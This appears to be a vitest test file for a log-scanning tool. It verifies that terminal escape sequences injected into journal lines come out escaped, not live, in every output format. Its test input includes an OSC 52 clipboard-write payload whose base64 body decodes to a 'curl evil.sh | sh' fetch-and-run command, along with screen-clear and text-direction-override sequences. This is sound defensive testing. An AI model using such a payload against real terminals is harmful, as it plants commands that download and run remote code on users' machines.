// Journal lines are written by anyone who can log on the node: an OSC 52 clipboard write or a screen
// clear inside one must reach no human output as a live escape (text, Markdown, follow lines, the TUI
// summary), only as a visible `\x1b`.

import { describe, expect, it } from 'vitest';
import { terminalSafe } from '../src/render/terminal-safe.js';
import { exitSummary } from '../src/tui/summary.js';
import { cli, scanText } from './helpers.js';
import { SWAP_JOURNAL } from './render-sample.js';
import { RENDERERS } from '../src/render/index.js';

const OSC52 = '\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07';
const CLEAR = '\x1b[2J';
const HOSTILE = SWAP_JOURNAL.trimEnd()
  .split('\n')
  .map((l) => (/swap/i.test(l) ? `${l} ${OSC52}${CLEAR}\x9b31m\u202e` : l))
  .join('\n');

// eslint-disable-next-line no-control-regex
const LIVE = /[\x07\x1b\x9b\u202e]/;

describe('control characters from the journal', () => {
  it('terminalSafe shows them, keeps tab and newline', () => {
    expect(terminalSafe(`a${OSC52}b\tc\n`)).toBe('a\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07b\tc\n');
    expect(terminalSafe('\x9b\u202e\x00')).toBe('\\x9b\\u202e\\x00');
  });

  it('text, Markdown and the TUI summary show them escaped', async () => {
    const r = await scanText(HOSTILE);
    expect(JSON.stringify(r)).toContain('\\u001b]52'); // the journal line did reach the report
    for (const out of [RENDERERS.text!(r, { color: false }), RENDERERS.markdown!(r, { color: false })]) {
      expect(out).not.toMatch(LIVE);
      expect(out).toContain('\\x1b]52');
    }
    expect(exitSummary(r, { color: false })).not.toMatch(LIVE);
  });

  it('follow lines and the CLI text output show them escaped', () => {
    for (const args of [['scan', '--follow', '--no-api'], ['scan']]) {
      const r = cli([...args, '--fail-on', 'never', '--now', '2026-11-22T00:00:00Z'], HOSTILE);
      expect(r.stdout).toContain('swap');
      expect(r.stdout + r.stderr).not.toMatch(LIVE);
    }
  });
});

describe('source counts', () => {
  it('say "1 line, 1 record", not "(1 lines)"', async () => {
    const r = await scanText('Nov 20 10:00:01 worker-1 kubelet[1234]: I1120 10:00:01.100000    1234 server.go:487] "Kubelet version" kubeletVersion="v1.29.3"\n');
    for (const out of [RENDERERS.text!(r, { color: false }), RENDERERS.markdown!(r, { color: false })]) {
      expect(out).toMatch(/1 line, 1 record/);
      expect(out).not.toMatch(/\b1 lines\b|\b1 records\b/);
    }
  });
});
